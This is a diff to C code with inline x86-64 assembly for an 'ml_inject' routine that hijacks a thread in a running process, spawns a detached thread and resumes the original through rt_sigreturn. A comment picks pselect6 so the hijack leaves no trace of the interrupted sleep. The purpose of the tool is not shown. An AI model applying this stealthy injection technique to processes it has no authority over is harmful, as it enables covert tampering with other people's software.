@@ -31,7 +31,8 @@ ml_inject_create(struct ml_inject_data *data)
     data->attr_init(&data->attr);
     data->attr_setstacksize(&data->attr, STACK_SIZE);
     data->attr_setdetachstate(&data->attr, PTHREAD_CREATE_DETACHED);
-    data->created = data->thread_create(&data->id, &data->attr, data->thread, data);
+    int rc = data->thread_create(&data->id, &data->attr, data->thread, data);
+    __atomic_store_n(&data->created, rc, __ATOMIC_SEQ_CST);
 }
 
 static inline __attribute__((always_inline)) int
@@ -78,22 +79,26 @@ ml_inject_load(struct ml_inject_data *data)
 _Static_assert(offsetof(struct ml_inject_data, mapping) == 0, "as below");
 _Static_assert(offsetof(struct ml_inject_data, size) == 8, "as below");
 _Static_assert(offsetof(struct ml_inject_data, unmap) == 16, "as below");
+_Static_assert(offsetof(struct ml_inject_data, limit) == 24, "as below");
 
+/* pselect, because it is the wait that leaves no trace in the kernel: poll and nanosleep
+ * would overwrite what is left of the sleep that the thread was taken from. */
 __asm__(".pushsection ml_inject_code, \"ax\", @progbits\n"
-        ".globl ml_inject_enter, ml_inject_marker, ml_inject_thread\n"
-        ".hidden ml_inject_enter, ml_inject_marker, ml_inject_thread\n"
+        ".globl ml_inject_enter, ml_inject_thread\n"
+        ".hidden ml_inject_enter, ml_inject_thread\n"
         ".type ml_inject_thread, @function\n"
         "ml_inject_enter:\n"
         "    cld\n"
         "    mov %rbx, %rdi\n"
         "    call ml_inject_create\n"
-        "    mov $" TEXT(SYS_rt_sigprocmask) ", %eax\n"
+        "    mov $" TEXT(SYS_pselect6) ", %eax\n"
         "    xor %edi, %edi\n"
         "    xor %esi, %esi\n"
         "    xor %edx, %edx\n"
-        "    mov $8, %r10d\n"
+        "    xor %r10d, %r10d\n"
+        "    lea 24(%rbx), %r8\n"
+        "    xor %r9d, %r9d\n"
         "    syscall\n"
-        "ml_inject_marker:\n"
         "    mov %rbp, %rsp\n"
         "    mov $" TEXT(SYS_rt_sigreturn) ", %eax\n"
         "    syscall\n"
